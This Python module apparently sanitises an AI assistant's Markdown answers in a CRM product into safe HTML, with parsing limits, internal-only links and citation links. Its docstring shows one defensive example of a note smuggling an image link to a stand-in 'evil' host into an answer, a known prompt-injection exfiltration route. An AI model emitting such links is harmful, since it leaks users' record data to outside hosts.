"""Converts an answer's Markdown to HTML that is safe to show.

Raw HTML is off in the parser, images do not exist, links may only point into the product (an external one is shown as
its text), and the sanitiser allows only a few elements. So a note that smuggles `![x](https://evil/?…)` into an answer
shows text and fetches nothing. Citations become links to the record.
"""

import html
import re
from collections.abc import Sequence
from typing import Any

import nh3
from markdown_it import MarkdownIt
from markdown_it.token import Token

from crm_app.assistant.outcomes import Source
from crm_app.core.direction import apart, plain, without_overrides

MAX_MARKDOWN = 40_000

_INTERNAL = re.compile(r"^/(?![/\\]|%5c|%2f)[\w\-./?=&%,:;+]*", re.ASCII | re.IGNORECASE)
_CITATION = re.compile(r"\[(\d{1,3})\]")
_SPECIAL = str.maketrans({c: "\\" + c for c in "\\`*_[]<>#|!&~"})
_AT_START = re.compile(r"^(\d{1,9}(?=[.)])|(?=[-+=]))(.)")
"""Characters that begin a list, a rule or a heading at the start of a line."""
_TAGS = {
    "p", "br", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "h3", "h4", "h5", "hr",
    "table", "thead", "tbody", "tr", "th", "td", "a", "span",
}  # fmt: skip
_ATTRIBUTES = {"a": {"href", "class", "title", "data-citation"}, "span": {"class"}, "ol": {"start"}}


def _parser() -> MarkdownIt:
    parser = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
    parser.disable(["image", "reference", "html_block", "html_inline", "autolink"])
    # Without joining, an escaped bracket stays apart from the digits beside it and makes no citation.
    parser.disable("text_join")
    return parser


_PARSER = _parser()


def is_internal(href: str) -> bool:
    """Whether `href` is a path of this product: no scheme, no host, no backslash."""
    return bool(_INTERNAL.fullmatch(href)) and ".." not in href


def escape(value: str) -> str:
    """Contents of a record as plain text inside Markdown, on one line, without markup, links or citations of their
    own.
    """
    return _AT_START.sub(r"\1\\\2", apart(" ".join(value.split()).translate(_SPECIAL)))


def render(markdown: str, sources: Sequence[Source]) -> str:
    """`markdown` as safe HTML.

    Args:
        markdown: the answer; cut at `MAX_MARKDOWN` characters.
        sources: the sources of [1], [2] …. A number without a source stays plain text.
    """
    tokens = _PARSER.parse(without_overrides(markdown[:MAX_MARKDOWN]))
    for token in tokens:
        if token.tag in ("h1", "h2"):
            token.tag = "h3"  # the page has its own headings above
        if token.children:
            token.children = _children(token.children, sources)
    rendered = _PARSER.renderer.render(tokens, _PARSER.options, {})
    return nh3.clean(rendered, tags=_TAGS, attributes=_ATTRIBUTES, url_schemes=set(), link_rel=None)


def _children(children: list[Token], sources: Sequence[Source]) -> list[Token]:
    result: list[Token] = []
    links: list[bool] = []
    for child in children:
        if child.type == "link_open":
            keep = is_internal(str(child.attrs.get("href", "")))
            links.append(keep)
            if keep:
                child.attrs = {"href": child.attrs["href"]}
                result.append(child)
        elif child.type == "link_close":
            if links.pop():
                result.append(child)
        elif child.type == "text":
            result += _chips(child.content, sources)
        elif child.type == "text_special":
            # An escaped character or an entity, which only the disabled joining would turn into text.
            result.append(_token("text", child.content))
        else:
            result.append(child)
    return result


def _chips(content: str, sources: Sequence[Source]) -> list[Token]:
    tokens: list[Token] = []
    position = 0
    for match in _CITATION.finditer(content):
        number = int(match[1])
        if not 1 <= number <= len(sources) or not is_internal(sources[number - 1].href):
            continue
        tokens.append(_token("text", content[position : match.start()]))
        tokens.append(_token("html_inline", _chip(number, sources[number - 1])))
        position = match.end()
    tokens.append(_token("text", content[position:]))
    return tokens


def _chip(number: int, source: Source) -> str:
    href, title = html.escape(source.href, quote=True), html.escape(plain(source.title), quote=True)
    return f'<a class="citation" href="{href}" title="{title}" data-citation="{number}">{number}</a>'


def _token(kind: str, content: str) -> Token:
    attributes: dict[str, Any] = {"content": content}
    return Token(kind, "", 0, **attributes)
